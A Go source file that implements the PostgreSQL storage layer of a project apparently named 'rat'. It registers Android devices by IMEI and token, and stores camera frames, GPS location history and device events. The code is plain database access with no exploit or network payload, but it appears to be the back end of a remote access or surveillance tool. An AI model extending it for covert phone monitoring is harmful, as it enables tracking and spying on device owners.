package storage

import (
	"context"
	"encoding/json"
	"errors"
	"time"

	"github.com/Sp1ker2/rat/internal/errs"
	"github.com/Sp1ker2/rat/internal/model"
	"github.com/google/uuid"
	"go.uber.org/zap"
	"gorm.io/datatypes"
	"gorm.io/gorm"
)

// GormStore implements Store on PostgreSQL via GORM.
type GormStore struct {
	db  *gorm.DB
	log *zap.Logger
}

// NewGormStore creates the store.
func NewGormStore(db *gorm.DB, log *zap.Logger) *GormStore {
	return &GormStore{db: db, log: log}
}

// CreateDevice inserts a new device profile.
func (s *GormStore) CreateDevice(ctx context.Context, id, name, token string, attrs DeviceAttrs) (*model.Device, error) {
	now := time.Now().UTC()
	dev := &model.Device{
		ID:             id,
		Name:           name,
		Token:          token,
		IMEI:           attrs.IMEI,
		Model:          attrs.Model,
		Manufacturer:   attrs.Manufacturer,
		AndroidVersion: attrs.AndroidVersion,
		SDK:            attrs.SDK,
		CreatedAt:      now,
		LastSeen:       now,
		IsActive:       true,
	}
	if err := s.db.WithContext(ctx).Create(dev).Error; err != nil {
		return nil, err
	}
	s.log.Info("device created",
		zap.String("device_id", id),
		zap.String("name", name),
		zap.String("model", attrs.Manufacturer+" "+attrs.Model))
	return dev, nil
}

// GetDevice returns a device by ID, or ErrDeviceNotFound.
func (s *GormStore) GetDevice(ctx context.Context, id string) (*model.Device, error) {
	var dev model.Device
	if err := s.db.WithContext(ctx).Where("id = ?", id).First(&dev).Error; err != nil {
		if errors.Is(err, gorm.ErrRecordNotFound) {
			return nil, errs.ErrDeviceNotFound
		}
		return nil, err
	}
	return &dev, nil
}

// GetDeviceByToken returns the device owning token, or ErrInvalidToken.
func (s *GormStore) GetDeviceByToken(ctx context.Context, token string) (*model.Device, error) {
	var dev model.Device
	if err := s.db.WithContext(ctx).Where("token = ?", token).First(&dev).Error; err != nil {
		if errors.Is(err, gorm.ErrRecordNotFound) {
			return nil, errs.ErrInvalidToken
		}
		return nil, err
	}
	return &dev, nil
}

// UpdateDevice merges changed descriptive fields and refreshes last_seen.
func (s *GormStore) UpdateDevice(ctx context.Context, id string, name string, attrs DeviceAttrs) (*model.Device, error) {
	dev, err := s.GetDevice(ctx, id)
	if err != nil {
		return nil, err
	}
	updates := map[string]any{"last_seen": time.Now().UTC()}
	if name != "" {
		updates["name"] = name
	}
	if attrs.IMEI != "" {
		updates["imei"] = attrs.IMEI
	}
	if attrs.Model != "" {
		updates["model"] = attrs.Model
	}
	if attrs.Manufacturer != "" {
		updates["manufacturer"] = attrs.Manufacturer
	}
	if attrs.AndroidVersion != "" {
		updates["android_version"] = attrs.AndroidVersion
	}
	if attrs.SDK != 0 {
		updates["sdk"] = attrs.SDK
	}
	if err := s.db.WithContext(ctx).Model(dev).Updates(updates).Error; err != nil {
		return nil, err
	}
	return dev, nil
}

// UpdateDeviceToken rotates a device token.
func (s *GormStore) UpdateDeviceToken(ctx context.Context, id, token string) (*model.Device, error) {
	dev, err := s.GetDevice(ctx, id)
	if err != nil {
		return nil, err
	}
	if err := s.db.WithContext(ctx).Model(dev).Update("token", token).Error; err != nil {
		return nil, err
	}
	return dev, nil
}

// ListDevices returns all device profiles.
func (s *GormStore) ListDevices(ctx context.Context) ([]model.Device, error) {
	var devices []model.Device
	if err := s.db.WithContext(ctx).Find(&devices).Error; err != nil {
		return nil, err
	}
	return devices, nil
}

// SaveCameraFrame stores one frame.
func (s *GormStore) SaveCameraFrame(ctx context.Context, deviceID, camera string, data []byte, width, height int, timestamp int64) (*model.CameraFrame, error) {
	frame := &model.CameraFrame{
		ID:        uuid.New().String(),
		DeviceID:  deviceID,
		Camera:    camera,
		FrameData: data,
		Width:     width,
		Height:    height,
		Timestamp: timestamp,
		CreatedAt: time.Now().UTC(),
	}
	if err := s.db.WithContext(ctx).Create(frame).Error; err != nil {
		return nil, err
	}
	s.log.Debug("camera frame saved",
		zap.String("device_id", deviceID),
		zap.String("camera", camera),
		zap.Int("size", len(data)))
	return frame, nil
}

// GetLatestFrame returns the newest frame for a camera by device timestamp.
func (s *GormStore) GetLatestFrame(ctx context.Context, deviceID, camera string) (*model.CameraFrame, error) {
	var frame model.CameraFrame
	err := s.db.WithContext(ctx).
		Where("device_id = ? AND camera = ?", deviceID, camera).
		Order("timestamp DESC, created_at DESC").
		First(&frame).Error
	if err != nil {
		if errors.Is(err, gorm.ErrRecordNotFound) {
			return nil, errs.ErrFrameNotFound
		}
		return nil, err
	}
	return &frame, nil
}

// GetFrameHistory returns frames newest-first by device timestamp.
func (s *GormStore) GetFrameHistory(ctx context.Context, deviceID, camera string, limit, offset int) ([]model.CameraFrame, error) {
	var frames []model.CameraFrame
	err := s.db.WithContext(ctx).
		Where("device_id = ? AND camera = ?", deviceID, camera).
		Order("timestamp DESC, created_at DESC").
		Limit(limit).Offset(offset).
		Find(&frames).Error
	if err != nil {
		return nil, err
	}
	return frames, nil
}

// SaveLocation stores one fix.
func (s *GormStore) SaveLocation(ctx context.Context, deviceID string, lat, lon float64, accuracy *float64, timestamp int64) (*model.LocationHistory, error) {
	loc := &model.LocationHistory{
		ID:        uuid.New().String(),
		DeviceID:  deviceID,
		Lat:       lat,
		Lon:       lon,
		Accuracy:  accuracy,
		Timestamp: timestamp,
		CreatedAt: time.Now().UTC(),
	}
	if err := s.db.WithContext(ctx).Create(loc).Error; err != nil {
		return nil, err
	}
	return loc, nil
}

// GetLocationHistory returns fixes newest-first by device timestamp.
func (s *GormStore) GetLocationHistory(ctx context.Context, deviceID string, limit, offset int) ([]model.LocationHistory, error) {
	var fixes []model.LocationHistory
	err := s.db.WithContext(ctx).
		Where("device_id = ?", deviceID).
		Order("timestamp DESC, created_at DESC").
		Limit(limit).Offset(offset).
		Find(&fixes).Error
	if err != nil {
		return nil, err
	}
	return fixes, nil
}

// LogDeviceEvent appends one typed event. A zero timestamp defaults to the
// server clock in milliseconds.
func (s *GormStore) LogDeviceEvent(ctx context.Context, deviceID, eventType string, eventData map[string]any, timestamp int64) (*model.DeviceEvent, error) {
	if timestamp == 0 {
		timestamp = time.Now().UnixMilli()
	}
	payload := datatypes.JSON("{}")
	if eventData != nil {
		raw, err := json.Marshal(eventData)
		if err != nil {
			return nil, err
		}
		payload = datatypes.JSON(raw)
	}
	evt := &model.DeviceEvent{
		ID:        uuid.New().String(),
		DeviceID:  deviceID,
		EventType: eventType,
		EventData: payload,
		Timestamp: timestamp,
		CreatedAt: time.Now().UTC(),
	}
	if err := s.db.WithContext(ctx).Create(evt).Error; err != nil {
		return nil, err
	}
	return evt, nil
}

// GetDeviceEvents returns events newest-first, optionally filtered by type.
func (s *GormStore) GetDeviceEvents(ctx context.Context, deviceID, eventType string, limit, offset int) ([]model.DeviceEvent, error) {
	q := s.db.WithContext(ctx).Where("device_id = ?", deviceID)
	if eventType != "" {
		q = q.Where("event_type = ?", eventType)
	}
	var events []model.DeviceEvent
	err := q.Order("timestamp DESC, created_at DESC").
		Limit(limit).Offset(offset).
		Find(&events).Error
	if err != nil {
		return nil, err
	}
	return events, nil
}
